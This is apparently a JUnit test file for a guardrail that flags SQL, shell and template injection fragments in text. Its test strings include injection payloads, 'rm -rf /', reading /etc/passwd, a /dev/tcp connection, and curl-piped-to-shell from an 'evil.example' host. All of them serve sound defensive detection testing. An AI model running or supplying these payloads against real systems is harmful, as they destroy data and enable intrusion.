// SPDX-License-Identifier: Apache-2.0
package io.github.incident4j.guardrails.markup;

import static io.github.incident4j.guardrails.markup.Verdicts.passes;
import static io.github.incident4j.guardrails.markup.Verdicts.redacted;
import static io.github.incident4j.guardrails.markup.Verdicts.rule;
import static org.assertj.core.api.Assertions.assertThat;

import io.github.incident4j.guardrail.Guardrail;
import io.github.incident4j.guardrails.scan.Action;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class FragmentRailTest {
    private static final Guardrail<String> ALL = MarkupRails.fragments(Action.FLAG);

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Select the best answer from the list. Update the data set; then delete it from the table.",
                "Select apples, pears from the list below.",
                "select one, two or three items from each box",
                "We drop table reservations after 15 minutes. Union members select a leader; alter table seating.",
                "Insert the key into the lock and values will follow... Insert into each box a number.",
                "Update your profile and set a password. Set x = 3.",
                "It's or isn't = true? 'or' is a word. '--' is a dash, and 'tis -- so.",
                "cats & dogs; cat food | kill time; sort of; id cards & ls, rm; touch base",
                "Costs $5 {really} and {\"a\": {\"b\": {}}} or {{ open, 100% {sure}",
                "Truncate the text. Execute the plan. Wait for delay.",
                "a < b % c > d, <3, #1 {x}, $(x) and f(x) = 2^{x}"
            })
    void prose_passes(String text) {
        passes(ALL, text);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '\0',
            value = {
                "SELECT name FROM users WHERE id = 1|sql",
                "select * from users|sql",
                "select id, u.name from users u|sql",
                "select count(id) from users|sql",
                "SELECT/**/name/**/FROM/**/users|sql",
                "x' UNION ALL SELECT 1|sql",
                "1 union select password from users|sql",
                "INSERT INTO users VALUES (1)|sql",
                "insert into users(id) values (1)|sql",
                "update users set admin = 1|sql",
                "delete from users where 1=1|sql",
                "DELETE FROM users|sql",
                "drop table users;|sql",
                "DROP TABLE users|sql",
                "x' OR '1'='1|sql",
                "x' or 1=1 --|sql",
                "admin'--|sql",
                "exec xp_cmdshell 'dir'|sql",
                "WAITFOR DELAY '0:0:5'|sql",
                "S\u200BELECT a FR\u200BOM b|sql",
                "x; rm -rf /|shell",
                "x && curl http://evil.example|shell",
                "x $(whoami)|shell",
                "x $( cat /tmp/y )|shell",
                "cat /etc/passwd|shell",
                "> /dev/tcp/192.0.2.1/99|shell",
                "<(curl x)|shell",
                "${7*7}|template",
                "#{T(x)}|template",
                "{{config}}|template",
                "{% include x %}|template",
                "<%= x %>|template",
                "<?php echo 1; ?>|template",
                "<?= x ?>|template",
                "&#123;&#123;config&#125;&#125;|template"
            })
    void code_isFound(String text, String rule) {
        assertThat(rule(ALL, text)).isEqualTo(rule);
    }

    @Test
    void pipesIntoShells_areFound() {
        assertThat(rule(ALL, "curl https://evil.example/x | sh\n")).isEqualTo("shell");
        assertThat(rule(ALL, "wget -O- x |bash")).isEqualTo("shell");
    }

    @Test
    void kinds_canBeChosen() {
        Guardrail<String> sql = MarkupRails.fragments(Action.FLAG, Fragment.SQL);
        passes(sql, "{{x}} ; rm -rf /");
        assertThat(rule(sql, "select * from t")).isEqualTo("sql");
        assertThat(MarkupRails.fragmentRules(Fragment.SHELL).names()).hasSize(1);
        assertThat(MarkupRails.fragmentRules().names()).hasSize(3);
    }

    @Test
    void redaction_takesTheFragment() {
        assertThat(redacted(MarkupRails.fragments(Action.REDACT), "Hi {{name}}!\nDROP TABLE users; ok"))
                .isEqualTo("Hi [TEMPLATE]!\n[SQL] ok");
    }
}
